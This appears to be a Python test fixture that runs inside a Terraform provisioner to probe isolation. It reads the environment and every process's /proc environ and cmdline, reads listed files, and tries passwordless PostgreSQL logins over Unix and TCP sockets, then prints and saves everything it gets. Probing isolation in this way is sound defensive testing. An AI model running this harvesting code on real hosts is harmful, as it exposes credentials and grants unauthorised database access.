# Runs inside the provisioner: try each door, print and record what was read (the test searches for secrets).
import json
import os
import socket
import struct

targets = json.loads(os.environ.get("ATTACK_TARGETS") or "{}")
got = {"uid": os.getuid(), "env": dict(os.environ)}


def attempt(name, fn):
    try:
        got[name] = {"ok": True, "value": fn()}
    except Exception as e:  # noqa: BLE001 - every failure is a shut door
        got[name] = {"ok": False, "error": f"{type(e).__name__}: {e}"}


def read(path):
    with open(path, "rb") as f:
        return f.read().decode(errors="replace")


own = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            if os.stat(f"/proc/{pid}").st_uid == os.getuid():
                own.append(f"/proc/{pid}/environ")  # the run's own processes: Terraform, this script
        except OSError:
            continue
        for part in ("environ", "cmdline"):
            attempt(f"/proc/{pid}/{part}", lambda p=f"/proc/{pid}/{part}": read(p))
got["own"] = own
for path in targets.get("files", []):
    attempt(path, lambda p=path: read(p))
for path in targets.get("dirs", []):
    attempt(path, lambda p=path: os.listdir(p))


def startup(user):  # a PostgreSQL startup message: trust authentication answers 'R' + 0 (AuthenticationOk)
    body = struct.pack("!I", 196608) + b"user\0" + user.encode() + b"\0database\0postgres\0\0"
    return struct.pack("!I", len(body) + 4) + body


def pg(family, address, user):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect(address)
        s.sendall(startup(user))
        answer = s.recv(64)
        if answer[:1] == b"R" and answer[5:9] == b"\0\0\0\0":
            return "AUTHENTICATED as " + user
        raise PermissionError(f"refused: {answer[:1]!r}")


for path in targets.get("sockets", []):
    for user in ("postgres", "ghapp"):
        attempt(f"{path} as {user}", lambda p=path, u=user: pg(socket.AF_UNIX, p, u))
for host, port in targets.get("tcp", []):
    for user in ("postgres", "ghapp"):
        attempt(f"{host}:{port} as {user}", lambda h=host, p=port, u=user: pg(socket.AF_INET, (h, p), u))

opened = sorted(k for k, v in got.items() if isinstance(v, dict) and v.get("ok") and k not in ("env", *own))
print("ATTACK opened:", json.dumps(opened)[:2000])
print("ATTACK env:", json.dumps(got["env"]))
if os.environ.get("ATTACK_REPORT"):
    with open(os.environ["ATTACK_REPORT"], "w") as f:
        json.dump(got, f)
